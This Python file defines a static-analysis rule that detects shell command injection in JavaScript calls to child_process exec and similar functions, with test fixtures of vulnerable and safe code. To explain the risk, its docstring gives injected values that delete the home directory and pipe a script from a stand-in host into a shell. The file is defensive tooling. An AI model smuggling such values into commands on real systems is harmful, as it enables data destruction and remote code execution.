from codeaudit.js import call_args, strip_parens
from codeaudit.js.base import JsRule
from codeaudit.rule import Category, Confidence, Severity

#: child_process functions that hand their first argument to a shell.
_SHELL_CALLS = {"child_process.exec", "child_process.execSync", "shelljs.exec", "execa.command",
                "execa.commandSync"}
_SPAWN_CALLS = {"child_process.spawn", "child_process.spawnSync", "child_process.execFile",
                "child_process.execFileSync"}


class JsCommandInjection(JsRule):
    """Shell command built from computed strings (`child_process.exec`).

    ## What it does
    Reports `exec`/`execSync` (resolved through `require`/`import`, including
    `node:child_process` and destructured or aliased bindings) whose command is a
    template literal with substitutions, a concatenation or request data, and
    `spawn`/`execFile` with `shell: true` and a computed command.

    ## Why is this bad
    `exec` runs the string through `/bin/sh`. A value such as `x; rm -rf ~` or
    `$(curl evil.sh | sh)` inside the template becomes a second command.

    ## Example
    ```javascript
    const { exec } = require("child_process");
    exec(`dig +short ${req.body.host}`, cb);
    ```

    ## Use instead
    Pass the program and its arguments separately, without a shell:
    ```javascript
    execFile("dig", ["+short", host], cb);
    ```
    """

    code = "SEC102"
    slug = "js-command-injection"
    category = Category.SECURITY
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (78,)
    triggers = (b"child_process", b"shelljs", b"execa")
    query = "(call_expression) @call"

    VALID = [
        "const { execFile } = require('child_process');\nconst run = require('util').promisify(execFile);\n"
        "async function zip(name) {\n  await run('zip', ['-r', 'out.zip', name]);\n}\n",
        "const { execFile, exec } = require('child_process');\nexecFile('git', ['status']);\nexec('git status');\n",
        "const cp = require('child_process');\nconst CMD = 'uptime -p';\ncp.exec(CMD);\nregex.exec(`${a}`);\n",
        "import { spawn } from 'node:child_process';\nspawn('ls', ['-l', dir]);\n",
    ]
    INVALID = [
        ("javascript", "const { exec } = require('child_process');\nconst util = require('util');\n"
                       "const sh = util.promisify(exec);\nasync function zip(name) {\n"
                       "  await sh(`zip -r out.zip ${name}`);  // expect: SEC102\n}\n"),
        "const cp = require('child_process');\ncp.exec(`dig +short ${host}`, cb);  // expect: SEC102\n",
        ("typescript", "import { execSync as run } from 'node:child_process';\n"
                       "export function tar(dir: string) { return run('tar czf out.tgz ' + dir); }  // expect: SEC102\n"),
        "const { exec } = require('child_process');\napp.get('/', (req, res) => { const h = req.query.h; exec(h); });  // expect: SEC102\n",
        "const { spawn } = require('child_process');\nspawn(`convert ${file} out.png`, { shell: true });  // expect: SEC102\n",
    ]

    def check(self, captures):
        call = captures["call"][0]
        name = self.js.call_name(call)
        if name not in _SHELL_CALLS and name not in _SPAWN_CALLS:
            return
        args = call_args(call)
        if not args:
            return
        command = strip_parens(args[0])
        if name in _SPAWN_CALLS and not any(
            "shell" in a.text.decode("utf-8", "replace") and "true" in a.text.decode() for a in args[1:]
            if a.type == "object"
        ):
            return
        built = command.type in ("template_string", "binary_expression") and not self.js.is_constant(command, call)
        if built or self.js.is_tainted(command):
            self.report(call, f"{name.split('.')[-1]}() runs a command string built from data through a shell; "
                              "use execFile/spawn with an argument array")
